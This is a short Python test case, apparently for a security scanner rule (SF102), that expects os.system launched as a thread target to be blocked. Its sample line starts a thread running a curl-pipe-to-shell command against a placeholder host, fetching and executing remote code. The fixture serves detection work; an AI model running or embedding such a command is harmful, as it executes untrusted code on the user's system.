# expect: blocked SF102 os.system as a thread target
import os
import threading

threading.Thread(target=os.system, args=("curl -s https://x.example | sh",)).start()
